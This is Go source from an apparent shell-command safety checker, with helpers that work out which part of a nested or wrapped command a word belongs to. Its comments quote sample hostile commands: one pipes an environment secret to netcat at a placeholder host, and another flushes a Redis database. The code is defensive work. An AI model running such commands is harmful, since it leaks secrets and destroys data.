package patterns

// A word read from a nested string that does not stand as written in
// the command (bash -c '… '\''…'\'' …', a double-quoted string with
// escapes) has the span of the whole string, as has every other word
// read from it; a span then names no one part. The classes that find the
// part a word belongs to (the sender a pipe feeds, the part a word is
// an argument of) would take the string's first part for every one:
// `bash -c "jq -n '\$ENV.KEY' | nc HOST 53"` judged jq as the sender,
// and was allowed where the line itself asks (FuzzWrappedNeverWeaker).
// A word judged is a copy of the part's, sharing its segments: that
// identity names the part first, the span only when it does not.

// sameWord reports whether a and b are copies of one word of the
// command: they share their segments.
func sameWord(a, b *Word) bool {
	return len(a.Segs) > 0 && len(b.Segs) > 0 && &a.Segs[0] == &b.Segs[0] && len(a.Segs) == len(b.Segs)
}

// partHolding returns the part of cmd that holds a copy of w among its
// words (its program's at index 0 when program is set), or nil. A part
// nested in another by words (`docker exec C redis-cli FLUSHALL`, `kubectl
// exec P -- …`, a wrapper's argv) shares its words with the part that
// hands them over and follows it in cmd.Parts: the innermost, the last
// that holds w, is the part w is an argument of (fx20d1, rt20d #3).
//
// Within an evaluation the answer comes from an index of the command's
// words built once ([wordHolders]): classes ask it for each word they
// judge, and a scan of every part each time made a pipeline of a
// thousand stages cost the square of its length (rt22d #7).
func partHolding(cmd *Command, w *Word, program bool) *Part {
	var found *Part
	for _, p := range cmd.Parts {
		if p == nil {
			continue
		}
		for i := range p.Words {
			if program && i > 0 {
				break
			}
			if sameWord(&p.Words[i], w) {
				found = p
				break
			}
		}
	}
	return found
}

// holdingIn is partHolding through the evaluation's index of cmd's
// words, when ctx is evaluating cmd; otherwise the scan itself.
func holdingIn(ctx *Context, cmd *Command, w *Word, program bool) *Part {
	if ctx == nil || ctx.memo == nil || cmd == nil || cmd != ctx.cmd || len(w.Segs) == 0 {
		return partHolding(cmd, w, program)
	}
	h := ctx.memo.holders
	if h == nil || h.cmd != cmd {
		h = newWordHolders(cmd)
		ctx.memo.holders = h
	}
	k := wordKey{&w.Segs[0], len(w.Segs)}
	if program {
		return h.program[k]
	}
	return h.any[k]
}

// wordKey names one word of a command by its segments (see sameWord).
type wordKey struct {
	first *Seg
	n     int
}

// wordHolders indexes a command's words by the last part holding each,
// as partHolding finds it: any lists every word, program the programs.
type wordHolders struct {
	cmd          *Command
	any, program map[wordKey]*Part
}

// newWordHolders indexes cmd's words.
func newWordHolders(cmd *Command) *wordHolders {
	h := &wordHolders{cmd: cmd, any: map[wordKey]*Part{}, program: map[wordKey]*Part{}}
	for _, p := range cmd.Parts {
		if p == nil {
			continue
		}
		for i := range p.Words {
			if len(p.Words[i].Segs) == 0 {
				continue
			}
			k := wordKey{&p.Words[i].Segs[0], len(p.Words[i].Segs)}
			h.any[k] = p
			if i == 0 {
				h.program[k] = p
			}
		}
	}
	return h
}
